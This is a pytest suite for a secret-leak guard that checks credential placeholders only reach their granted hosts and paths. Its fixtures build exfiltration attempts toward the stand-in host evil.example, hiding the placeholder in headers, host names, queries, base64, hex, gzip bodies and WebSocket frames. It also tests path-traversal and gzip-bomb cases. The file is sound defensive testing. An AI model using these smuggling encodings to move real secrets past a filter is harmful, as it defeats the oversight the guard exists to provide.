"""A placeholder goes to the place its grant is for, and to no other."""

from __future__ import annotations

import base64
import gzip
import json
import os
import zlib
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.play import ask
from engine.splitting import cut, pieces_of
from engine.test_frames import frame
from moat.core.hosts import Destination, HostPattern
from moat.engine import leak
from moat.engine.inject import Injection
from moat.engine.patterns import PathPattern
from moat.engine.placeholder import MARK, Placeholder
from moat.engine.policy import Policy
from moat.engine.rules import Rule
from moat.engine.session import RunSession
from moat.engine.transform import Refused, Transform

MINE = f"{MARK}-header-mine-0a1b2c3d"
KEY = f"sk-{MARK}-placeholder-{'0' * 40}"
PLACEHOLDERS = (Placeholder("header:mine", MINE), Placeholder("openai", KEY))
SESSION = RunSession(
    "0123456789",
    injections=(
        Injection("header:mine", HostPattern("api.example"), "Authorization", "Bearer {}"),
        Injection(
            "header:mine", HostPattern("paths.example"), "X", path=PathPattern.parse("/v1/**")
        ),
        Injection("openai", HostPattern("api.openai.example"), "Authorization", "Bearer {}"),
    ),
    placeholders=PLACEHOLDERS,
)
BOUND = Destination("https", "api.example", 443)
EVIL = Destination("https", "evil.example", 443)


def head(url: str = "https://evil.example/", **headers: str) -> leak.Leak | None:
    pairs = tuple((k.replace("_", "-").encode(), v.encode()) for k, v in headers.items())
    return leak.find_in_head(ask(url, headers=((b"Accept", b"*/*"), *pairs)), SESSION)


# heads


@pytest.mark.parametrize(
    ("url", "headers", "where"),
    [
        ("/", {"Authorization": f"Bearer {MINE}"}, "the header Authorization"),
        ("/", {"X_Y": "x" + MINE.encode().hex()}, "the header X-Y"),
        (
            "/",
            {"Authorization": "Basic " + base64.b64encode(f"me:{MINE}".encode()).decode()},
            "the header Authorization",
        ),
        ("/", {"Cookie": f"a=1; b={MINE}"}, "the header Cookie"),
        ("/", {f"X-{MINE}": "1"}, "the name of a header"),
        (f"/{MINE}", {}, "the path or query"),
        (f"/?a={MINE}", {}, "the path or query"),
        ("/?a=" + "".join(f"%{ord(c):02X}" for c in MINE), {}, "the path or query"),
        ("/?a=" + base64.urlsafe_b64encode(f"1{MINE}".encode()).decode(), {}, "the path or query"),
    ],
)
def test_a_placeholder_in_a_head_is_found(url: str, headers: dict[str, str], where: str) -> None:
    """In whatever part, however it is spelled; at its own place it is none of our business."""
    found = head(f"https://evil.example{url}", **headers)
    assert leak.Leak("header:mine", EVIL, where) == found
    assert head(f"https://api.example{url}", **headers) is None


def test_a_placeholder_in_the_name_of_a_host_is_found() -> None:
    """Whoever owns the domain would read it in a DNS query."""
    found = head(f"https://{MINE}.evil.example/")
    assert found is not None
    assert ("header:mine", "the name of the host") == (found.grant, found.where)


@pytest.mark.parametrize(
    ("url", "leaks"),
    [
        ("https://api.example/", False),
        ("https://API.EXAMPLE./any/path", False),
        ("http://api.example/", True),
        ("http://api.example:443/", True),
        ("https://api.example:8443/", True),
        ("https://sub.api.example/", True),
        ("https://api.openai.example/", True),
        ("https://paths.example/v1/x?y", False),
        ("https://paths.example/v2", True),
        ("https://paths.example/v1/../v2", True),
        ("https://paths.example/v1//x", True),
        ("https://paths.example/v1/%2e%2e/v2", True),
    ],
)
def test_a_grant_is_for_its_destination_and_paths(url: str, leaks: bool) -> None:
    """The same that decides where the secret goes decides where the placeholder may."""
    assert leaks == (head(url, Authorization=f"Bearer {MINE}") is not None)


def test_each_grant_has_its_own_place() -> None:
    """Two placeholders in one request: the one that is out of place is named."""
    url = "https://api.example/"
    both = {"Authorization": MINE, "X-Key": KEY}
    found = head(url, **both)
    assert found is not None
    assert "openai" == found.grant


@pytest.mark.parametrize("value", ["", "Bearer sk-mine", MARK, MINE[:-1], "%6d%6f%61%74"])
def test_anything_else_goes(value: str) -> None:
    """Also what looks like a placeholder and is none."""
    assert head(Authorization=value) is None


def test_without_placeholders_there_is_nothing_to_look_for() -> None:
    """Whatever a request holds."""
    nothing = RunSession("0123456789")
    request = ask("https://evil.example/", headers=((b"Authorization", MINE.encode()),))
    assert leak.find_in_head(request, nothing) is None
    assert leak.watch(nothing, EVIL, "/") is None
    assert leak.watch_frames(nothing, EVIL, "/") is None


def test_what_is_told_names_the_grant_and_not_the_placeholder() -> None:
    """The client reads whose it was and where it may go; what was sent is not repeated."""
    found = head(**{f"X-{MINE}": MINE})
    assert found is not None
    problem = found.problem(SESSION)
    document = json.loads(problem.body())
    assert (403, "placeholder-leak") == (problem.status, problem.kind)
    assert "urn:moat:problem:placeholder-leak" == document["type"]
    assert ("header:mine", "evil.example", 443) == (
        document["grant"],
        document["host"],
        document["port"],
    )
    assert ["https://api.example", "https://paths.example/v1/**"] == document["grant_is_for"]
    for text in (problem.body().decode(), found.alarm):
        assert MARK not in text
    assert "placeholder of header:mine" in found.alarm
    assert "https://evil.example" in found.alarm


# bodies


def watcher(destination: Destination = EVIL) -> Transform:
    watching = leak.watch(SESSION, destination, "/")
    assert watching is not None
    return watching


def feed(watching: Transform, pieces: list[bytes], gone: list[bytes] | None = None) -> bytes:
    """What comes out; it is in `gone` as well, as far as it came."""
    gone = [] if gone is None else gone
    for piece in pieces:
        gone.append(watching.feed(piece))
    return b"".join([*gone, watching.finish()])


BODIES = {
    "as it is": MINE.encode(),
    "JSON": json.dumps({"env": {"TOKEN": MINE}}).encode(),
    "a form": b"a=1&b=" + MINE.encode(),
    "percent-encoded": "".join(f"%{ord(c):02x}" for c in MINE).encode(),
    "base64": base64.b64encode(b"xy" + MINE.encode()),
    "base64 in lines": base64.encodebytes(b"x" * 50 + MINE.encode()),
    "hex": MINE.encode().hex().encode(),
    "gzip": gzip.compress(b"a" * 1000 + MINE.encode() + os.urandom(1000)),
    "gzip of base64": gzip.compress(base64.b64encode(MINE.encode())),
}


@pytest.mark.parametrize("kind", BODIES)
@pytest.mark.parametrize("size", [1, 2, 7, 64, 1 << 20])
def test_a_placeholder_in_a_body_is_refused(kind: str, size: int) -> None:
    """In pieces of whatever size; the last of it has not gone on then."""
    body = b"before " * 20 + BODIES[kind] if "gzip" not in kind else BODIES[kind]
    gone: list[bytes] = []
    with pytest.raises(Refused) as caught:
        feed(watcher(), pieces_of(body + b" after", size), gone)
    assert (403, "placeholder-leak") == (caught.value.problem.status, caught.value.problem.kind)
    assert "placeholder of header:mine" in caught.value.problem.detail
    assert BODIES[kind] not in b"".join(gone)


@given(st.data())
def test_a_body_is_refused_wherever_it_is_cut(data: st.DataObject) -> None:
    """Whether it holds one does not hang on how it comes; what holds none comes out as it went
    in."""
    parts = [MINE.encode(), MINE[:9].encode(), MARK.encode(), b"\n", b"%", b"x" * 300, KEY.encode()]
    body = b"".join(data.draw(st.lists(st.sampled_from(parts), max_size=8)))
    pieces = data.draw(st.composite(lambda draw: cut(draw, body))())
    leaks = MINE.encode() in body
    watching = watcher(Destination("https", "api.openai.example", 443))
    if leaks:
        with pytest.raises(Refused):
            feed(watching, pieces)
    else:
        assert body == feed(watching, pieces)


def test_a_body_to_its_own_place_is_not_watched_for_it() -> None:
    """Only for those of others; where there are none, not at all."""
    watching = watcher(BOUND)
    assert MINE.encode() == feed(watching, [MINE.encode()])
    with pytest.raises(Refused):
        feed(watcher(BOUND), [KEY.encode()])
    alone = RunSession("0123456789", injections=SESSION.injections, placeholders=PLACEHOLDERS[:1])
    assert leak.watch(alone, BOUND, "/") is None
    assert leak.watch(alone, EVIL, "/") is not None
    assert leak.watch(alone, Destination("https", "paths.example", 443), "/v1/x") is None
    assert leak.watch(alone, Destination("https", "paths.example", 443), "/") is not None


def test_what_an_agent_tells_its_own_api_is_not_looked_at() -> None:
    """It repeats what it has read, its environment included; a head to there is looked at, and so
    is what goes to a host that somebody else allowed."""
    api = Destination("https", "api.openai.example", 443)
    request = ask("https://api.openai.example/", headers=((b"X-Key", MINE.encode()),))
    sources: dict[Any, bool] = {"agent": False, "option": True, "grant": True}
    for source, is_watched in sources.items():
        rule = Rule(HostPattern("api.openai.example"), source)
        run = replace(SESSION, policy=Policy((rule,)))
        assert is_watched == (leak.watch(run, api, "/") is not None)
        assert is_watched == (leak.watch_frames(run, api, "/") is not None)
        assert leak.find_in_head(request, run) is not None
        assert leak.watch(run, EVIL, "/") is not None
        assert leak.watch(run, Destination("http", "api.openai.example", 443), "/") is not None


def test_a_body_goes_on_at_once() -> None:
    """Nothing is held back, not even what begins like a placeholder."""
    watching = watcher()
    for piece in (b"", MINE[:-1].encode(), b"", b"x", b"\x1f", b"\x8b"):
        assert piece == watching.feed(piece)
    assert b"" == watching.finish()


@pytest.mark.parametrize(
    "body",
    [b"\x1f\x8b", b"\x1f\x8b and no gzip at all", gzip.compress(b"a" * 100)[:-9] + b"x" * 50],
)
def test_what_is_no_gzip_goes(body: bytes) -> None:
    """It only began like one: the server is to judge it."""
    for size in (1, 3, 100):
        assert body == feed(watcher(), pieces_of(body, size))


def test_a_gzip_bomb_is_not_unpacked() -> None:
    """Of what it holds a mebibyte is looked at, whatever follows."""
    bomb = gzip.compress(b"a" * (64 << 20) + MINE.encode())
    assert bomb == feed(watcher(), pieces_of(bomb, 1 << 14))


# WebSockets


def frames() -> Transform:
    watching = leak.watch_frames(SESSION, EVIL, "/")
    assert watching is not None
    return watching


@pytest.mark.parametrize("size", [1, 5, 1 << 16])
def test_a_placeholder_in_a_message_ends_it(size: int) -> None:
    """Masked on the wire, over fragments with a ping in between, and in a ping itself."""
    text = json.dumps({"type": "x", "text": MINE}).encode()
    split = frame(text[:30], last=False) + frame(b"hi", opcode=9) + frame(text[30:], opcode=0)
    streams = (frame(text), frame(b"x" * 70_000 + text), split, frame(MINE.encode(), opcode=9))
    for stream in streams:
        with pytest.raises(Refused) as caught:
            feed(frames(), pieces_of(frame(b"hello") + stream, size))
        assert "in a message" in caught.value.problem.detail


def test_messages_without_one_go_unchanged() -> None:
    """Byte for byte, masks and all."""
    stream = frame(b"hello") + frame(MINE[:-1].encode()) + frame(b"", opcode=8)
    for size in (1, 6, 1 << 16):
        assert stream == feed(frames(), pieces_of(stream, size))


def test_a_compressed_message_is_not_looked_into() -> None:
    """The twin of what is written about it: it goes, and nothing breaks."""
    squeeze = zlib.compressobj(wbits=-15)
    packed = squeeze.compress(MINE.encode()) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    stream = frame(packed[:-4], opcode=0x41)
    assert stream == feed(frames(), [stream])


def test_a_websocket_to_its_own_place_is_not_watched_for_it() -> None:
    """As bodies are."""
    alone = RunSession("0123456789", injections=SESSION.injections, placeholders=PLACEHOLDERS[:1])
    assert leak.watch_frames(alone, BOUND, "/") is None
